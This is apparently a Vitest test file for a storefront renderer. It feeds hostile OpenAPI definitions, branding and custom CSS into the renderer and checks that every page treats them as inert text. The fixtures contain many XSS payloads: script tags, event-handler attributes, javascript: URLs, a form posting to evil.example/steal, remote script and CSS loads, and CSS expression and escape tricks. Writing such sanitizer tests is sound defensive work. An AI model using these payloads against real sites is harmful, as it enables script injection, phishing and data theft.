// Definitions and branding written to attack the storefront: every page built from them
// must keep that content as inert text.
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Core } from '../../src-main/core/core.js';
import { sanitizeCustomCss } from '../../src-main/core/storefront/custom-css.js';
import { renderMarkdown } from '../../src-main/core/storefront/markdown.js';
import {
  byClass,
  byTag,
  cspOf,
  importApi,
  parsePage,
  text,
  type Page,
} from '../support/storefront.js';
import { tempCore, tempDir } from '../support/workspace.js';

const EVIL = 'https://evil.example';

const HOSTILE_DESCRIPTION = [
  '# Welcome <script>alert(1)</script>',
  `<img src=x onerror="alert(2)"> <img src="${EVIL}/track.png">`,
  `![pixel](${EVIL}/pixel.gif) [click me](javascript:alert(3)) [home](${EVIL}/phish)`,
  `<a href="${EVIL}" onclick="alert(4)">raw link</a>`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/x.swf"></object>`,
  '<form action="https://evil.example/steal"><input name=q></form>',
  '<svg onload=alert(5)><use href="https://evil.example/s.svg#x"/></svg>',
  '<div style="background:url(https://evil.example/bg.png)">styled</div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mi xlink:href="javascript:alert(6)">m</mi></math>',
].join('\n\n');

const hostileDefinition = {
  openapi: '3.0.3',
  info: {
    title: '<script>alert("title")</script>Evil API',
    version: '1.0.0',
    description: HOSTILE_DESCRIPTION,
  },
  tags: [{ name: '<img src=x onerror=alert(7)>' }],
  paths: {
    '/items/{id}': {
      parameters: [{ name: 'id', in: 'path', required: true, schema: { type: 'string' } }],
      get: {
        summary: '<script>alert("summary")</script> "quoted" onmouseover=alert(8)',
        tags: ['<img src=x onerror=alert(7)>'],
        responses: { 200: { description: 'OK' } },
      },
      delete: {
        summary: `</code></li><a href="${EVIL}">broken out</a>`,
        tags: ['"><svg onload=alert(9)>'],
        deprecated: true,
        responses: { 204: { description: 'gone' } },
      },
    },
  },
};

const HOSTILE_BRANDING = {
  heroTitle: '</h1><script>alert("hero")</script>',
  heroText: `<img src=x onerror=alert(10)> <a href="${EVIL}">x</a>`,
  footerText: '</footer><script src="https://evil.example/x.js"></script>',
  fontFamily: 'x;}</style><script>alert(11)</script><style>',
  customCss: [
    `@import url(${EVIL}/a.css);`,
    `@import "${EVIL}/b.css";`,
    `.sf-hero { background: url(${EVIL}/bg.png); color: red }`,
    `.x { background: url("javascript:alert(12)") }`,
    '.y { width: expression(alert(13)) }',
    `.z { background-image: image-set("${EVIL}/i.png" 1x) }`,
    `.w { background: u\\72l(${EVIL}/escaped.png) }`,
    '} body { display: none } .q {',
    '</style><script>alert(14)</script><style>',
  ].join('\n'),
};

let core: Core;
let apiId: string;
const cleanups: (() => void)[] = [];
afterEach(() => cleanups.splice(0).forEach((c) => c()));

const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'data', 'poster', 'srcset',
  'xlink:href', 'background', 'cite'];

// The invariants every storefront page keeps, whatever it was made from.
function expectInert(page: Page, where: string): void {
  const csp = cspOf(page);
  expect(csp, where).toMatch(/default-src 'none'/);

  const scripts = byTag(page, 'script');
  expect(scripts.length, where).toBe(1);
  expect(scripts[0].attribs, where).toEqual({});
  const body = scripts[0].children.map((c) => (c as { data?: string }).data ?? '').join('');
  const hash = createHash('sha256').update(body).digest('base64');
  expect(csp, where).toContain(`'sha256-${hash}'`);

  for (const tag of ['iframe', 'object', 'embed', 'form', 'base', 'frame', 'math']) {
    expect(byTag(page, tag).length, `${where}: <${tag}>`).toBe(0);
  }
  expect(byTag(page, 'meta').filter((m) => m.attribs['http-equiv'] === 'refresh')).toEqual([]);

  for (const e of page.all) {
    for (const [name, value] of Object.entries(e.attribs)) {
      expect(name.startsWith('on'), `${where}: <${e.name} ${name}>`).toBe(false);
      if (URL_ATTRIBUTES.includes(name)) {
        expect(value, `${where}: <${e.name} ${name}="${value}">`).not.toMatch(
          /^\s*(https?:|\/\/|javascript:|vbscript:|file:)/i,
        );
      }
    }
    if (e.name === 'img') expect(e.attribs.src ?? '', where).toMatch(/^(data:image\/|[a-z.])/);
    if (e.name === 'style' && e.parent && (e.parent as { name?: string }).name !== 'head') {
      throw new Error(`${where}: a <style> outside the head`);
    }
  }
  expect(page.all.filter((e) => e.attribs.style !== undefined), where).toEqual([]);

  for (const style of byTag(page, 'style')) {
    const css = text(style);
    expect(css, where).not.toMatch(/@import|expression\(|javascript:|https?:|\/\/evil|<\//i);
    for (const url of css.match(/url\([^)]*\)/gi) ?? []) expect(url).toMatch(/^url\("?data:/);
  }
}

async function renderAll(): Promise<{ name: string; html: string }[]> {
  const pages = [{ kind: 'home' }, { kind: 'catalog' }, { kind: 'api', apiId }] as const;
  const out = [];
  for (const page of pages) {
    const { html } = await core.invoke('storefront.render', { domain: 'evil.example', page });
    out.push({ name: page.kind, html });
  }
  return out;
}

describe('hostile content in the storefront', () => {
  beforeEach(async () => {
    const t = tempCore();
    core = t.core;
    cleanups.push(t.cleanup);
    await core.invoke('tenant.create', {
      domain: 'evil.example',
      name: '<b onclick=alert(15)>Evil</b>',
    });
    await core.invoke('branding.update', { domain: 'evil.example', patch: HOSTILE_BRANDING });
    apiId = await importApi(
      core,
      'evil.example',
      { name: 'evil.json', content: JSON.stringify(hostileDefinition) },
      '/evil',
      { lifecycle: 'published', tags: ['<script>alert(16)</script>', 'ok'] },
    );
  });

  it('stays inert in every preview page', async () => {
    for (const { name, html } of await renderAll()) expectInert(parsePage(html), name);
  });

  it('stays inert in every page of a built site', async () => {
    const dir = tempDir('marquee-evil-site-');
    cleanups.push(() => fs.rmSync(dir, { recursive: true, force: true }));
    await core.invoke('storefront.build', { domain: 'evil.example', outDir: dir });

    const pages = (fs.readdirSync(dir, { recursive: true }) as string[])
      .filter((f) => f.endsWith('.html'));
    // Home, catalog, plans and the one API's page.
    expect(pages.length).toBe(4);
    for (const file of pages) {
      expectInert(parsePage(fs.readFileSync(path.join(dir, file), 'utf8')), file);
    }
  });

  it('shows hostile names and summaries as the text they are', async () => {
    const [home, catalog, api] = (await renderAll()).map((p) => parsePage(p.html));

    expect(text(byTag(home, 'h1')[0])).toBe('</h1><script>alert("hero")</script>');
    expect(text(byClass(home, 'sf-brand')[0])).toContain('<b onclick=alert(15)>Evil</b>');
    expect(text(byTag(catalog, 'h3')[0])).toBe('<script>alert("title")</script>Evil API');
    expect(text(byTag(api, 'footer')[0])).toContain('</footer><script src=');

    const summaries = byClass(api, 'sf-op-summary').map(text);
    expect(summaries).toContain('<script>alert("summary")</script> "quoted" onmouseover=alert(8)');
    const groups = byClass(api, 'sf-group').map((g) => text(g));
    expect(groups.some((g) => g.startsWith('<img src=x onerror=alert(7)>'))).toBe(true);
    expect(groups.some((g) => g.startsWith('"><svg onload=alert(9)>'))).toBe(true);
  });

  it('keeps Markdown formatting and link text but drops what could act or fetch', async () => {
    const api = parsePage((await renderAll())[2].html);
    const doc = byClass(api, 'sf-doc')[0];

    expect(text(doc)).toContain('Welcome');
    expect(text(doc)).toContain('click me');
    expect(text(doc)).toContain('raw link');
    expect(text(doc)).toContain('evil.example/phish');
    expect(text(doc)).not.toContain('alert(1)');
  });
});

describe('custom CSS cleaning', () => {
  it('keeps ordinary rules and data: images', () => {
    const css = '.sf-hero { color: #fff; background: url("data:image/png;base64,AAAA") }';
    expect(sanitizeCustomCss(css)).toBe(css);
  });

  it('keeps every rule inside the block it is nested in', () => {
    const cleaned = sanitizeCustomCss('} body { display: none } .a { color: red');

    let depth = 1;
    for (const c of cleaned) {
      if (c === '{') depth++;
      if (c === '}') depth--;
      expect(depth).toBeGreaterThan(0);
    }
    expect(cleaned.endsWith('}')).toBe(true);
  });

  it('keeps strings but writes a < in them as a CSS escape', () => {
    expect(sanitizeCustomCss('.a::after { content: "</style>" }')).toBe(
      '.a::after { content: "\\3c /style>" }',
    );
  });

  it('drops escapes that spell url( and unterminated strings that would swallow the rest', () => {
    expect(sanitizeCustomCss('.a { background: u\\72l(http://x/y) }')).not.toMatch(/url|http/);
    expect(sanitizeCustomCss('.a { content: "abc\\')).toBe('.a { content: "abc"}');
  });
});

describe('Markdown rendering', () => {
  it('renders tables, code and lists and keeps data: images', () => {
    const out = renderMarkdown(
      '| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`\n\n- one\n- two\n\n' +
        '![dot](data:image/png;base64,iVBORw0KGgo=)',
    ).value;
    expect(out).toContain('<table>');
    expect(out).toContain('<code>code</code>');
    expect(out).toContain('<li>one</li>');
    expect(out).toContain('<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />');
  });
});
